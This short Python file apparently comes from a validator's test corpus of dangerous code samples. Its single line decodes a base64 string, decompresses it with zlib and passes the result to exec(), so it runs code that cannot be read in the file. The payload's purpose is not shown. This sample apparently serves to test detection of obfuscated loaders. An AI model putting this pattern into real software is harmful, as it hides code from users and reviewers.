# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import base64
import zlib

exec(zlib.decompress(base64.b64decode("eJzLzC3ILypRyC+2BmK94sriktRcDfXc7LRivdSKEhMF/ZTUMv3ilERDdU0AWWoO1w==")))
